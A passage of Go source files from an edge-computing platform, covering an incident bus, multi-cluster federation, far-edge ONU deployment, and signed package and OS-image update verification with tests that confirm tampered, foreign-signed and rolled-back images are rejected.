		counts: make(map[string]int),
	}
	go b.run()
	return b
}

func (b *incidentBus) run() {
	defer close(b.done)
	for m := range b.ch {
		if m.flush != nil {
			close(m.flush)
			continue
		}
		b.append(m.inc)
	}
}

func (b *incidentBus) append(i Incident) {
	b.mu.Lock()
	b.incidents = append(b.incidents, i)
	b.counts[i.Source]++
	b.mu.Unlock()
}

// record enqueues an incident; after Close it degrades to a synchronous
// append so late producers are never lost.
func (b *incidentBus) record(i Incident) {
	b.sendMu.RLock()
	if !b.closed {
		b.ch <- busMsg{inc: i}
		b.sendMu.RUnlock()
		return
	}
	b.sendMu.RUnlock()
	b.append(i)
}

// flush blocks until every incident enqueued before the call is applied.
func (b *incidentBus) flush() {
	b.sendMu.RLock()
	if b.closed {
		b.sendMu.RUnlock()
		return
	}
	token := make(chan struct{})
	b.ch <- busMsg{flush: token}
	b.sendMu.RUnlock()
	<-token
}

// close drains the queue and stops the writer goroutine. Idempotent and
// safe to call concurrently: every caller — not just the one that flips
// the flag — blocks until the drain completes, so no Close returns while
// queued incidents are still being applied.
func (b *incidentBus) close() {
	b.sendMu.Lock()
	if !b.closed {
		b.closed = true
		close(b.ch)
	}
	b.sendMu.Unlock()
	<-b.done
}

// snapshot returns a copy of the applied incident log.
func (b *incidentBus) snapshot() []Incident {
	b.mu.RLock()
	defer b.mu.RUnlock()
	out := make([]Incident, len(b.incidents))
	copy(out, b.incidents)
	return out
}

// countsBySource returns a copy of the per-source tallies.
func (b *incidentBus) countsBySource() map[string]int {
	b.mu.RLock()
	defer b.mu.RUnlock()
	out := make(map[string]int, len(b.counts))
	for k, v := range b.counts {
		out[k] = v
	}
	return out
}
