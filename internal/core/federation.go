// Federation mode: a Platform normally drives one orchestrator cluster
// (one OLT site); WithFederation turns it into the control plane of N
// named clusters (regions / sites) routed through internal/federation's
// region-filter → consistent-hash-ring → per-cluster-scheduler
// hierarchy. The default cluster becomes the first federation member
// and keeps every platform-level attachment (durable store, far-edge
// shadow, warm events); the other members are peer clusters sharing the
// platform's registry, RBAC engine, audit spine, and admission
// scanners. Federation membership and tenant pins are boot
// configuration, not durable state — only the first member persists.
package core

import (
	"context"
	"fmt"

	"genio/internal/federation"
	"genio/internal/orchestrator"
)

// FederationMember names one cluster of a federated platform.
type FederationMember struct {
	Name   string
	Region string
}

// WithFederation runs the platform in federation mode over the given
// members. The first member adopts the platform's default cluster (and
// with it the durable store, when one is configured); the rest are
// created fresh with the same settings. Deploys route through the
// federation hierarchy; a single-member federation behaves exactly like
// the plain platform plus region filtering.
func WithFederation(members ...FederationMember) Option {
	return func(p *Platform) {
		p.fedMembers = append([]FederationMember(nil), members...)
	}
}

// initFederation builds the federation from p.fedMembers. Called from
// New after options and clock wiring, before scanner registration (the
// scanners must land on every member).
func (p *Platform) initFederation() error {
	fed := federation.New(p.Registry)
	fed.SetAuditSink(p.publishAudit)
	if p.now != nil {
		fed.SetClock(p.now)
	}
	for i, m := range p.fedMembers {
		var c *orchestrator.Cluster
		if i == 0 {
			// The default cluster is the first member: it keeps the
			// store's mutation sink and the far-edge shadow, it just
			// answers to its federation name from here on.
			p.Cluster.Name = m.Name
			c = p.Cluster
		} else {
			c = orchestrator.NewCluster(m.Name, p.Registry, p.Cluster.Settings)
			c.VerifyImageSignatures = p.Config.VerifyImageSignatures
			c.RBAC = p.RBAC
			c.SetAuditSink(p.publishAudit)
			c.SetWarmEventSink(p.publishWarmEvent)
			if p.now != nil {
				c.SetClock(p.now)
			}
		}
		if err := fed.AddCluster(m.Name, m.Region, c); err != nil {
			return err
		}
		p.fedClusters = append(p.fedClusters, c)
	}
	p.Federation = fed
	return nil
}

// allClusters returns every cluster the platform drives: the federation
// members, or just the default cluster outside federation mode.
func (p *Platform) allClusters() []*orchestrator.Cluster {
	if len(p.fedClusters) > 0 {
		return p.fedClusters
	}
	return []*orchestrator.Cluster{p.Cluster}
}

// Clusters reports the placement domains: federation member snapshots,
// or a synthesized single entry for a plain platform — so fleet tooling
// renders identically either way.
func (p *Platform) Clusters() []federation.Member {
	if p.Federation != nil {
		return p.Federation.Clusters()
	}
	return []federation.Member{{
		Name:      p.Cluster.Name,
		Nodes:     len(p.Cluster.Nodes()),
		Workloads: p.Cluster.WorkloadCount(),
	}}
}

// ClusterByName resolves a placement domain by name. "" means the
// default cluster.
func (p *Platform) ClusterByName(name string) (*orchestrator.Cluster, error) {
	if name == "" || name == p.Cluster.Name {
		return p.Cluster, nil
	}
	if p.Federation != nil {
		if c, ok := p.Federation.Cluster(name); ok {
			return c, nil
		}
	}
	return nil, &federation.ClusterNotFoundError{Cluster: name}
}

// PinTenant pins a tenant's workloads to a region (data residency).
// A no-op error outside federation mode, since a single cluster has no
// region boundary to enforce.
func (p *Platform) PinTenant(tenant, region string) error {
	if p.Federation == nil {
		return fmt.Errorf("core: region pinning requires federation mode")
	}
	p.Federation.PinTenant(tenant, region)
	return nil
}

// AddEdgeNodeIn provisions an OLT through the full infrastructure
// pipeline and registers it with the named federation cluster ("" = the
// default cluster). Context-free wrapper over AddEdgeNodeInContext.
func (p *Platform) AddEdgeNodeIn(cluster, name string, capacity orchestrator.Resources) (*EdgeNode, error) {
	return p.AddEdgeNodeInContext(context.Background(), cluster, name, capacity)
}

// AddEdgeNodeInContext is AddEdgeNodeIn with cancellation. Node names
// are platform-global (the provisioning registry is shared), whatever
// cluster the node schedules into.
func (p *Platform) AddEdgeNodeInContext(ctx context.Context, cluster, name string, capacity orchestrator.Resources) (*EdgeNode, error) {
	target, err := p.ClusterByName(cluster)
	if err != nil {
		return nil, err
	}
	return p.addEdgeNodeOn(ctx, target, name, capacity)
}

// EvacuateCluster handles a failed federation member: its workloads are
// re-placed through the ring across the survivors (region pins still
// hard) and the member leaves the federation. The default cluster — the
// platform's control-plane home, carrying the durable store and the
// far-edge shadow — cannot be evacuated; fail its nodes individually
// instead.
func (p *Platform) EvacuateCluster(subject, name string) (*federation.EvacuationResult, error) {
	if p.closed.Load() {
		return nil, &ClosedError{Op: "evacuate-cluster"}
	}
	if p.Federation == nil {
		return nil, &federation.ClusterNotFoundError{Cluster: name}
	}
	if name == p.Cluster.Name {
		return nil, fmt.Errorf("core: cluster %s is the platform's default member and cannot be evacuated", name)
	}
	res, err := p.Federation.EvacuateCluster(subject, name)
	if err != nil {
		return nil, err
	}
	p.publishMetric("cluster.evacuated", float64(len(res.Moved)), name)
	return res, nil
}
