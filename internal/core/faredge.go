package core

// Far-edge compute: in GENIO, ONUs at customer premises carry low-end
// compute for workloads with ultra-low latency requirements (Figure 1).
// Far-edge deployments pass the same supply-chain and admission controls
// as edge deployments — the platform does not relax scrutiny for smaller
// hardware — but capacity is scarce and workloads are always soft-isolated
// (a single shared runtime per device).

import (
	"errors"
	"fmt"

	"genio/internal/container"
	"genio/internal/orchestrator"
	"genio/internal/rbac"
	"genio/internal/sandbox"
)

// FarEdgeCapacity is the compute available on one ONU — deliberately small
// (the paper: "additional low-end computing resources").
var FarEdgeCapacity = orchestrator.Resources{CPUMilli: 1000, MemoryMB: 1024}

// FarEdgeWorkload is a workload running on an ONU.
type FarEdgeWorkload struct {
	Spec   orchestrator.WorkloadSpec
	Image  *container.Image
	Node   string // the OLT whose PON tree hosts the ONU
	Serial string // the ONU
}

// Errors for far-edge deployment.
var (
	ErrNoONU           = errors.New("core: onu not activated on this node")
	ErrFarEdgeCapacity = errors.New("core: onu capacity exhausted")
)

// farEdgeState tracks per-ONU deployments (keyed node/serial).
type farEdgeState struct {
	used      orchestrator.Resources
	workloads map[string]*FarEdgeWorkload
}

// DeployFarEdge schedules a workload onto a specific ONU. The pipeline
// mirrors Deploy: RBAC, signature-verified pull, the admission chain, then
// ONU capacity. Isolation is forced to soft (no VMs on an ONU).
func (p *Platform) DeployFarEdge(subject, nodeName, serial string, spec orchestrator.WorkloadSpec) (*FarEdgeWorkload, error) {
	if p.closed.Load() {
		return nil, &ClosedError{Op: "deploy-far-edge"}
	}
	node, err := p.Node(nodeName)
	if err != nil {
		return nil, err
	}
	active := false
	for _, s := range node.OLT.ActiveONUs() {
		if s == serial {
			active = true
			break
		}
	}
	if !active {
		return nil, fmt.Errorf("%w: %s on %s", ErrNoONU, serial, nodeName)
	}

	if p.Config.RBACEnabled && p.RBAC != nil {
		d := p.RBAC.Check(subject, rbac.Permission{Verb: "create", Resource: "workloads", Namespace: spec.Tenant})
		if !d.Allowed {
			return nil, &orchestrator.UnauthorizedError{Subject: subject, Verb: "create", Tenant: spec.Tenant}
		}
	}

	var img *container.Image
	if p.Config.VerifyImageSignatures {
		img, err = p.Registry.PullVerified(spec.ImageRef)
	} else {
		img, err = p.Registry.Pull(spec.ImageRef)
	}
	if err != nil {
		return nil, &orchestrator.ImagePullError{Ref: spec.ImageRef, Err: err}
	}

	// Far-edge reuses the cluster's admission chain verbatim.
	if p.Config.AdmissionScanning {
		if err := p.runFarEdgeAdmission(spec, img); err != nil {
			return nil, err
		}
	}

	spec.Isolation = orchestrator.IsolationSoft
	p.feMu.Lock()
	defer p.feMu.Unlock()
	if p.farEdge == nil {
		p.farEdge = make(map[string]*farEdgeState)
	}
	key := nodeName + "/" + serial
	st, ok := p.farEdge[key]
	if !ok {
		st = &farEdgeState{workloads: make(map[string]*FarEdgeWorkload)}
		p.farEdge[key] = st
	}
	if _, dup := st.workloads[spec.Name]; dup {
		return nil, &orchestrator.DuplicateNameError{Workload: spec.Name}
	}
	next := orchestrator.Resources{
		CPUMilli: st.used.CPUMilli + spec.Resources.CPUMilli,
		MemoryMB: st.used.MemoryMB + spec.Resources.MemoryMB,
	}
	if next.CPUMilli > FarEdgeCapacity.CPUMilli || next.MemoryMB > FarEdgeCapacity.MemoryMB {
		return nil, fmt.Errorf("%w: %s", ErrFarEdgeCapacity, serial)
	}
	st.used = next
	w := &FarEdgeWorkload{Spec: spec, Image: img, Node: nodeName, Serial: serial}
	st.workloads[spec.Name] = w
	if p.Config.SandboxEnabled {
		p.Enforcer.SetPolicy(spec.Name, sandbox.DefaultWorkloadPolicy())
	}
	return w, nil
}

// runFarEdgeAdmission replays the cluster admission chain for a far-edge
// spec without scheduling cluster resources.
func (p *Platform) runFarEdgeAdmission(spec orchestrator.WorkloadSpec, img *container.Image) error {
	// The cluster chain is not directly invocable, so the scanners are
	// registered once on an internal shadow cluster reserved for far-edge
	// admission. Rebuilding the chain here would duplicate policy; instead
	// we reuse the same gates by dry-running a deploy against a capacity-
	// free shadow and mapping the denial.
	p.farEdgeShadowOnce.Do(func() {
		shadow := orchestrator.NewCluster("faredge-admission", p.Registry, orchestrator.Settings{})
		shadow.AddNode("shadow", orchestrator.Resources{CPUMilli: 1 << 30, MemoryMB: 1 << 30})
		// The shadow platform shares the real event spine (and its
		// incident view), so scanner rejections on the far-edge path
		// land in the platform log.
		sp := &Platform{Config: Config{AdmissionScanning: true}, Cluster: shadow, spine: p.spine, incview: p.incview}
		sp.registerScanners()
		p.farEdgeShadow = shadow
	})
	dry := spec
	dry.Name = "dryrun-" + spec.Name
	dry.Resources = orchestrator.Resources{CPUMilli: 1, MemoryMB: 1}
	if _, err := p.farEdgeShadow.Deploy("faredge-admission", dry); err != nil {
		return err
	}
	// Clean the dry-run workload so names can be reused.
	_ = p.farEdgeShadow.Stop(dry.Name)
	return nil
}

// FarEdgeWorkloads lists deployments on one ONU.
func (p *Platform) FarEdgeWorkloads(nodeName, serial string) []*FarEdgeWorkload {
	p.feMu.Lock()
	defer p.feMu.Unlock()
	st, ok := p.farEdge[nodeName+"/"+serial]
	if !ok {
		return nil
	}
	out := make([]*FarEdgeWorkload, 0, len(st.workloads))
	for _, w := range st.workloads {
		out = append(out, w)
	}
	return out
}

// StopFarEdge removes a far-edge workload, releasing ONU capacity.
func (p *Platform) StopFarEdge(nodeName, serial, name string) error {
	p.feMu.Lock()
	defer p.feMu.Unlock()
	st, ok := p.farEdge[nodeName+"/"+serial]
	if !ok {
		return fmt.Errorf("%w: %s/%s", ErrNoONU, nodeName, serial)
	}
	w, ok := st.workloads[name]
	if !ok {
		return fmt.Errorf("%w: %s", orchestrator.ErrNotFound, name)
	}
	delete(st.workloads, name)
	st.used.CPUMilli -= w.Spec.Resources.CPUMilli
	st.used.MemoryMB -= w.Spec.Resources.MemoryMB
	return nil
}
