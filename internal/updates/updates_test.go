package updates

import (
	"errors"
	"testing"

	"genio/internal/host"
	"genio/internal/tpm"
)

func setup(t *testing.T) (*Repository, *Client, *host.Host) {
	t.Helper()
	repo, err := NewRepository("genio-main")
	if err != nil {
		t.Fatalf("NewRepository: %v", err)
	}
	h := host.New("node1", "onl-debian10")
	return repo, NewClient(repo.PublicKey(), h), h
}

func TestInstallSignedPackage(t *testing.T) {
	repo, client, h := setup(t)
	a := repo.Publish("genio-agent", "1.2.0", []byte("agent-binary"))
	if err := client.Install(repo.Metadata(), a); err != nil {
		t.Fatalf("Install: %v", err)
	}
	if v, ok := h.PackageVersion("genio-agent"); !ok || v != "1.2.0" {
		t.Fatalf("installed version = %q, %v", v, ok)
	}
	if client.Installed != 1 || client.Rejected != 0 {
		t.Fatalf("counters = %d/%d", client.Installed, client.Rejected)
	}
}

func TestTamperedPackageRejected(t *testing.T) {
	repo, client, h := setup(t)
	a := repo.Publish("genio-agent", "1.2.0", []byte("agent-binary"))
	md := repo.Metadata()
	a.Data = []byte("trojaned-binary")
	if err := client.Install(md, a); !errors.Is(err, ErrBadDigest) {
		t.Fatalf("err = %v, want ErrBadDigest", err)
	}
	if _, ok := h.PackageVersion("genio-agent"); ok {
		t.Fatal("tampered package installed")
	}
	if client.Rejected != 1 {
		t.Fatalf("Rejected = %d, want 1", client.Rejected)
	}
}

func TestForeignRepoKeyRejected(t *testing.T) {
	repo, client, _ := setup(t)
	evil, err := NewRepository("evil-mirror")
	if err != nil {
		t.Fatal(err)
	}
	// Attacker serves their own metadata and package.
	a := evil.Publish("genio-agent", "1.2.1", []byte("backdoored"))
	if err := client.Install(evil.Metadata(), a); !errors.Is(err, ErrBadSignature) {
		t.Fatalf("err = %v, want ErrBadSignature", err)
	}
	_ = repo
}

func TestPackageNotInMetadata(t *testing.T) {
	repo, client, _ := setup(t)
	md := repo.Metadata() // empty index
	rogue := PackageArtifact{Name: "x", Version: "1", Data: []byte("d"), Digest: digestOf([]byte("d"))}
	if err := client.Install(md, rogue); !errors.Is(err, ErrNotFound) {
		t.Fatalf("err = %v, want ErrNotFound", err)
	}
}

func TestMetadataTamperRejected(t *testing.T) {
	repo, client, _ := setup(t)
	a := repo.Publish("genio-agent", "1.2.0", []byte("bin"))
	md := repo.Metadata()
	// Attacker swaps the digest to whitelist a trojan.
	md.Digests["genio-agent/1.2.0"] = digestOf([]byte("trojan"))
	a.Data = []byte("trojan")
	a.Digest = digestOf([]byte("trojan"))
	if err := client.Install(md, a); !errors.Is(err, ErrBadSignature) {
		t.Fatalf("err = %v, want ErrBadSignature (metadata re-signing must fail)", err)
	}
}

func TestFetch(t *testing.T) {
	repo, _, _ := setup(t)
	repo.Publish("p", "1", []byte("d"))
	if _, err := repo.Fetch("p", "1"); err != nil {
		t.Fatalf("Fetch: %v", err)
	}
	if _, err := repo.Fetch("p", "2"); !errors.Is(err, ErrNotFound) {
		t.Fatalf("err = %v, want ErrNotFound", err)
	}
}

func onieSetup(t *testing.T) (*ONIE, *ImageSigner) {
	t.Helper()
	tp, err := tpm.New()
	if err != nil {
		t.Fatal(err)
	}
	signer, err := NewImageSigner("genio-build")
	if err != nil {
		t.Fatal(err)
	}
	ProvisionTrustAnchor(tp, signer.PublicKey())
	return &ONIE{TPM: tp, MinimalEnvVerified: true, CurrentVersion: "onl-4.19.81"}, signer
}

func TestONIEApplySignedImage(t *testing.T) {
	onie, signer := onieSetup(t)
	img := OSImage{Version: "onl-4.19.300", Data: []byte("new-os-image")}
	if err := onie.Apply(img, signer.Sign(img)); err != nil {
		t.Fatalf("Apply: %v", err)
	}
	if onie.CurrentVersion != "onl-4.19.300" {
		t.Fatalf("CurrentVersion = %s", onie.CurrentVersion)
	}
	if _, err := onie.MarshalReport(); err != nil {
		t.Fatalf("MarshalReport: %v", err)
	}
}

func TestONIERejectsTamperedImage(t *testing.T) {
	onie, signer := onieSetup(t)
	img := OSImage{Version: "onl-4.19.300", Data: []byte("new-os-image")}
	sig := signer.Sign(img)
	img.Data = []byte("evil-os-image")
	if err := onie.Apply(img, sig); !errors.Is(err, ErrBadDigest) {
		t.Fatalf("err = %v, want ErrBadDigest", err)
	}
	if onie.CurrentVersion != "onl-4.19.81" {
		t.Fatal("tampered image changed installed version")
	}
}

func TestONIERejectsForeignSigner(t *testing.T) {
	onie, _ := onieSetup(t)
	evil, err := NewImageSigner("evil-build")
	if err != nil {
		t.Fatal(err)
	}
	img := OSImage{Version: "onl-9.9.9", Data: []byte("evil")}
	if err := onie.Apply(img, evil.Sign(img)); !errors.Is(err, ErrBadSignature) {
		t.Fatalf("err = %v, want ErrBadSignature", err)
	}
}

func TestONIERejectsDowngradedSignatureVersionSwap(t *testing.T) {
	// Signature binds the version string: re-labelling an old image as a
	// new version must fail.
	onie, signer := onieSetup(t)
	oldImg := OSImage{Version: "onl-4.19.81", Data: []byte("old-image")}
	sig := signer.Sign(oldImg)
	relabelled := OSImage{Version: "onl-4.19.300", Data: []byte("old-image")}
	if err := onie.Apply(relabelled, sig); !errors.Is(err, ErrBadSignature) {
		t.Fatalf("err = %v, want ErrBadSignature", err)
	}
}

func TestONIERequiresMinimalEnvironment(t *testing.T) {
	onie, signer := onieSetup(t)
	onie.MinimalEnvVerified = false // applying from the full (untrusted) OS
	img := OSImage{Version: "onl-4.19.300", Data: []byte("new")}
	if err := onie.Apply(img, signer.Sign(img)); !errors.Is(err, ErrInsecureApply) {
		t.Fatalf("err = %v, want ErrInsecureApply", err)
	}
}

func TestONIERequiresTrustAnchor(t *testing.T) {
	tp, err := tpm.New()
	if err != nil {
		t.Fatal(err)
	}
	signer, err := NewImageSigner("genio-build")
	if err != nil {
		t.Fatal(err)
	}
	onie := &ONIE{TPM: tp, MinimalEnvVerified: true}
	img := OSImage{Version: "v", Data: []byte("d")}
	if err := onie.Apply(img, signer.Sign(img)); !errors.Is(err, ErrNoTrustAnchor) {
		t.Fatalf("err = %v, want ErrNoTrustAnchor", err)
	}
}

func TestVerifyImageWithoutApply(t *testing.T) {
	onie, signer := onieSetup(t)
	onie.MinimalEnvVerified = false
	img := OSImage{Version: "v2", Data: []byte("d")}
	// Verification is allowed anywhere; only Apply needs the minimal env.
	if err := onie.VerifyImage(img, signer.Sign(img)); err != nil {
		t.Fatalf("VerifyImage: %v", err)
	}
}

func TestAntiRollbackRefusesDowngrade(t *testing.T) {
	onie, signer := onieSetup(t)
	onie.AntiRollback = true
	newer := updates_OSImage("onl-4.19.300", "new")
	if err := onie.Apply(newer, signer.Sign(newer)); err != nil {
		t.Fatalf("upgrade: %v", err)
	}
	// A validly signed but older (vulnerable) release must be refused.
	older := updates_OSImage("onl-4.19.81", "old-vulnerable")
	if err := onie.Apply(older, signer.Sign(older)); !errors.Is(err, ErrRollback) {
		t.Fatalf("err = %v, want ErrRollback", err)
	}
	if onie.CurrentVersion != "onl-4.19.300" {
		t.Fatalf("version = %s after refused rollback", onie.CurrentVersion)
	}
	// Re-applying the same version is allowed (reinstall).
	same := updates_OSImage("onl-4.19.300", "new")
	if err := onie.Apply(same, signer.Sign(same)); err != nil {
		t.Fatalf("reinstall: %v", err)
	}
}

func TestRollbackAllowedWhenDisabled(t *testing.T) {
	onie, signer := onieSetup(t)
	onie.AntiRollback = false
	older := updates_OSImage("onl-4.18.0", "old")
	if err := onie.Apply(older, signer.Sign(older)); err != nil {
		t.Fatalf("downgrade with anti-rollback off: %v", err)
	}
}

// updates_OSImage is a tiny helper keeping the new tests compact.
func updates_OSImage(version, data string) OSImage {
	return OSImage{Version: version, Data: []byte(data)}
}
