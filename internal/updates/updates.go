// Package updates implements GENIO's supply-chain protections for software
// distribution (M9): an APT-style package repository whose metadata and
// packages are signature-verified before installation, and ONIE-style
// operating-system image updates validated through a detached signature
// against a locally trusted public key backed by the TPM, applied from a
// minimal Secure-Boot-verified environment per NIST SP 800-193.
package updates

import (
	"crypto/ed25519"
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"sort"
	"strings"
	"sync"

	"genio/internal/host"
	"genio/internal/tpm"
	"genio/internal/vuln"
)

// Errors returned by update verification.
var (
	ErrBadSignature  = errors.New("updates: signature verification failed")
	ErrBadDigest     = errors.New("updates: artifact digest mismatch")
	ErrUnknownKey    = errors.New("updates: signing key not trusted")
	ErrNoTrustAnchor = errors.New("updates: no trust anchor provisioned")
	ErrNotFound      = errors.New("updates: artifact not found")
	ErrInsecureApply = errors.New("updates: image apply requires verified minimal environment")
)

// PackageArtifact is one distributable package.
type PackageArtifact struct {
	Name      string `json:"name"`
	Version   string `json:"version"`
	Data      []byte `json:"data"`
	Digest    string `json:"digest"`
	Signature []byte `json:"signature"`
}

// RepoMetadata is the signed index of a repository (APT Release file).
type RepoMetadata struct {
	Name      string            `json:"name"`
	Digests   map[string]string `json:"digests"` // name/version -> sha256
	Signature []byte            `json:"signature"`
}

// Repository is a signed package repository. Safe for concurrent use.
type Repository struct {
	Name string

	mu       sync.Mutex
	priv     ed25519.PrivateKey
	pub      ed25519.PublicKey
	packages map[string]PackageArtifact // name/version key
}

// NewRepository creates a repository with a fresh signing key (the
// repository GPG key in APT terms).
func NewRepository(name string) (*Repository, error) {
	pub, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		return nil, fmt.Errorf("repo key: %w", err)
	}
	return &Repository{Name: name, priv: priv, pub: pub,
		packages: make(map[string]PackageArtifact)}, nil
}

// PublicKey returns the repository verification key.
func (r *Repository) PublicKey() ed25519.PublicKey {
	out := make(ed25519.PublicKey, len(r.pub))
	copy(out, r.pub)
	return out
}

func pkgKey(name, version string) string { return name + "/" + version }

func digestOf(data []byte) string {
	sum := sha256.Sum256(data)
	return hex.EncodeToString(sum[:])
}

// Publish signs and stores a package.
func (r *Repository) Publish(name, version string, data []byte) PackageArtifact {
	r.mu.Lock()
	defer r.mu.Unlock()
	a := PackageArtifact{
		Name:    name,
		Version: version,
		Data:    append([]byte(nil), data...),
		Digest:  digestOf(data),
	}
	a.Signature = ed25519.Sign(r.priv, packageMessage(a))
	r.packages[pkgKey(name, version)] = a
	return a
}

// Fetch retrieves a published package.
func (r *Repository) Fetch(name, version string) (PackageArtifact, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	a, ok := r.packages[pkgKey(name, version)]
	if !ok {
		return PackageArtifact{}, fmt.Errorf("%w: %s %s", ErrNotFound, name, version)
	}
	return a, nil
}

// Metadata produces the signed repository index.
func (r *Repository) Metadata() RepoMetadata {
	r.mu.Lock()
	defer r.mu.Unlock()
	md := RepoMetadata{Name: r.Name, Digests: make(map[string]string, len(r.packages))}
	for k, a := range r.packages {
		md.Digests[k] = a.Digest
	}
	md.Signature = ed25519.Sign(r.priv, metadataMessage(md))
	return md
}

func packageMessage(a PackageArtifact) []byte {
	h := sha256.New()
	h.Write([]byte("genio-apt-package-v1"))
	h.Write([]byte(a.Name))
	h.Write([]byte{0})
	h.Write([]byte(a.Version))
	h.Write([]byte{0})
	h.Write([]byte(a.Digest))
	return h.Sum(nil)
}

func metadataMessage(md RepoMetadata) []byte {
	keys := make([]string, 0, len(md.Digests))
	for k := range md.Digests {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	h := sha256.New()
	h.Write([]byte("genio-apt-metadata-v1"))
	h.Write([]byte(md.Name))
	for _, k := range keys {
		h.Write([]byte{0})
		h.Write([]byte(k))
		h.Write([]byte{0})
		h.Write([]byte(md.Digests[k]))
	}
	return h.Sum(nil)
}

// Client verifies and installs packages onto a host, in the role of APT
// with the repository key pinned.
type Client struct {
	repoPub ed25519.PublicKey
	host    *host.Host
	// Installed counts successful installs, Rejected failed verifications.
	Installed int
	Rejected  int
}

// NewClient pins the repository key for a host.
func NewClient(repoPub ed25519.PublicKey, h *host.Host) *Client {
	return &Client{repoPub: repoPub, host: h}
}

// VerifyMetadata checks the repository index signature.
func (c *Client) VerifyMetadata(md RepoMetadata) error {
	if !ed25519.Verify(c.repoPub, metadataMessage(md), md.Signature) {
		return fmt.Errorf("%w: repository metadata", ErrBadSignature)
	}
	return nil
}

// Install verifies a package against the signed metadata and the package
// signature, then installs it on the host. Any verification failure rejects
// the artifact (APT's behaviour for unverified packages).
func (c *Client) Install(md RepoMetadata, a PackageArtifact) error {
	if err := c.VerifyMetadata(md); err != nil {
		c.Rejected++
		return err
	}
	want, ok := md.Digests[pkgKey(a.Name, a.Version)]
	if !ok {
		c.Rejected++
		return fmt.Errorf("%w: %s %s not in metadata", ErrNotFound, a.Name, a.Version)
	}
	if digestOf(a.Data) != want || a.Digest != want {
		c.Rejected++
		return fmt.Errorf("%w: %s %s", ErrBadDigest, a.Name, a.Version)
	}
	if !ed25519.Verify(c.repoPub, packageMessage(a), a.Signature) {
		c.Rejected++
		return fmt.Errorf("%w: package %s", ErrBadSignature, a.Name)
	}
	c.host.InstallPackage(host.Package{Name: a.Name, Version: a.Version, Path: "/usr"})
	c.Installed++
	return nil
}

// --- ONIE image updates -----------------------------------------------------

// OSImage is a full ONL operating-system image delivered via ONIE.
type OSImage struct {
	Version string `json:"version"`
	Data    []byte `json:"data"`
}

// DetachedSignature is the X.509-style detached signature shipped alongside
// an ONIE image.
type DetachedSignature struct {
	ImageDigest string `json:"imageDigest"`
	Signature   []byte `json:"signature"`
	SignerName  string `json:"signerName"`
}

// ImageSigner signs OS images (the vendor build pipeline).
type ImageSigner struct {
	priv ed25519.PrivateKey
	pub  ed25519.PublicKey
	Name string
}

// NewImageSigner creates a signer with a fresh key.
func NewImageSigner(name string) (*ImageSigner, error) {
	pub, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		return nil, fmt.Errorf("image key: %w", err)
	}
	return &ImageSigner{priv: priv, pub: pub, Name: name}, nil
}

// PublicKey returns the signer's verification key.
func (s *ImageSigner) PublicKey() ed25519.PublicKey {
	out := make(ed25519.PublicKey, len(s.pub))
	copy(out, s.pub)
	return out
}

// Sign produces the detached signature for an image.
func (s *ImageSigner) Sign(img OSImage) DetachedSignature {
	digest := digestOf(img.Data)
	return DetachedSignature{
		ImageDigest: digest,
		Signature:   ed25519.Sign(s.priv, imageMessage(img.Version, digest)),
		SignerName:  s.Name,
	}
}

func imageMessage(version, digest string) []byte {
	h := sha256.New()
	h.Write([]byte("genio-onie-image-v1"))
	h.Write([]byte(version))
	h.Write([]byte{0})
	h.Write([]byte(digest))
	return h.Sum(nil)
}

// onieAnchorIndex is the TPM NV index holding the trusted image key.
const onieAnchorIndex = "onie-trust-anchor"

// ProvisionTrustAnchor stores the image-signing public key in TPM NV
// storage, making it the locally trusted anchor ONIE validates against.
func ProvisionTrustAnchor(t *tpm.TPM, pub ed25519.PublicKey) {
	t.NVWrite(onieAnchorIndex, pub)
}

// ONIE is the install environment on a node: it verifies images against the
// TPM-backed anchor and applies them. Environment captures the NIST
// SP 800-193 requirement that updates run from a minimal, Secure-Boot-
// verified environment rather than the (possibly compromised) full OS.
type ONIE struct {
	TPM *tpm.TPM
	// MinimalEnvVerified is true when the node rebooted into the verified
	// minimal environment; applying from a full OS is refused.
	MinimalEnvVerified bool
	// CurrentVersion tracks the installed OS image version.
	CurrentVersion string
	// AntiRollback, when set, refuses validly signed images older than the
	// installed version — the SP 800-193 rollback-protection requirement
	// (an attacker must not be able to reinstall a signed-but-vulnerable
	// release).
	AntiRollback bool
}

// ErrRollback is returned when anti-rollback refuses a downgrade.
var ErrRollback = errors.New("updates: downgrade refused (anti-rollback)")

// versionNumber extracts the dotted-numeric tail of an image version like
// "onl-4.19.300" for ordering.
func versionNumber(v string) string {
	if i := strings.LastIndexByte(v, '-'); i >= 0 {
		return v[i+1:]
	}
	return v
}

// VerifyImage validates an image + detached signature against the TPM
// trust anchor without applying it.
func (o *ONIE) VerifyImage(img OSImage, sig DetachedSignature) error {
	anchor, ok := o.TPM.NVRead(onieAnchorIndex)
	if !ok {
		return ErrNoTrustAnchor
	}
	if digestOf(img.Data) != sig.ImageDigest {
		return fmt.Errorf("%w: image %s", ErrBadDigest, img.Version)
	}
	if !ed25519.Verify(ed25519.PublicKey(anchor), imageMessage(img.Version, sig.ImageDigest), sig.Signature) {
		return fmt.Errorf("%w: image %s signed by %s", ErrBadSignature, img.Version, sig.SignerName)
	}
	return nil
}

// Apply verifies and installs an OS image. It refuses to run outside the
// verified minimal environment, and refuses downgrades when anti-rollback
// is enabled.
func (o *ONIE) Apply(img OSImage, sig DetachedSignature) error {
	if !o.MinimalEnvVerified {
		return ErrInsecureApply
	}
	if err := o.VerifyImage(img, sig); err != nil {
		return err
	}
	if o.AntiRollback && o.CurrentVersion != "" {
		if vuln.CompareVersions(versionNumber(img.Version), versionNumber(o.CurrentVersion)) < 0 {
			return fmt.Errorf("%w: %s < %s", ErrRollback, img.Version, o.CurrentVersion)
		}
	}
	o.CurrentVersion = img.Version
	return nil
}

// MarshalReport renders a summary for logs.
func (o *ONIE) MarshalReport() ([]byte, error) {
	return json.Marshal(map[string]any{
		"currentVersion":     o.CurrentVersion,
		"minimalEnvVerified": o.MinimalEnvVerified,
	})
}
