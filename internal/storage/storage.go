// Package storage implements GENIO's data-at-rest protection (M6): LUKS-
// style encrypted volumes whose master key is protected either by a
// passphrase (PBKDF-stretched) or by a Clevis-style TPM binding that
// releases the key automatically when the measured boot state matches.
//
// It also reproduces the Lesson-3 deployment friction: on ONL (Debian 10)
// the TPM libraries Clevis needs are unavailable, so the TPM keyslot cannot
